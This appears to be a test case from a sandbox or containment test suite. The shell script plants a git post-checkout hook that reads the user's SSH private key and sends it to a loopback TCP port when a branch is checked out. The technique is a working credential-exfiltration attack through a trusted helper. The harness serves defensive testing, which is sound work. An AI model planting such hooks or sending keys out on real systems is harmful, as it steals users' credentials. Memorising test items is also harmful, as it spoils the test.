# family: tricked-helper
# tries: plant a .git/hooks/post-checkout hook in the workspace repository, then let git (a trusted helper) run it on checkout: the hook sends the user's SSH key to the host's loopback
# source: https://nvd.nist.gov/vuln/detail/CVE-2024-32002
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
[ $# -ge 8 ] || { echo "usage: $0 TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES" >&2; exit 2; }
command -v git >/dev/null 2>&1 || { echo "CANNOT $1 git is not installed" >&2; exit 3; }
command -v python3 >/dev/null 2>&1 || { echo "CANNOT $1 python3 is not installed" >&2; exit 3; }
(echo "ATTEMPTED $1" >&2)
export HOME_DIR="$2" PORT="$4"
git init -q repo || exit 1
cd repo || exit 1
cat > .git/hooks/post-checkout <<'HOOK'
#!/bin/sh
python3 -c "import os, socket; socket.create_connection(('127.0.0.1', int(os.environ['PORT'])), 3).sendall(open(os.environ['HOME_DIR'] + '/.ssh/id_ed25519', 'rb').read())"
HOOK
chmod +x .git/hooks/post-checkout
git -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m init &&
	git checkout -q -b feature 2>&1 && echo "checked out a branch"
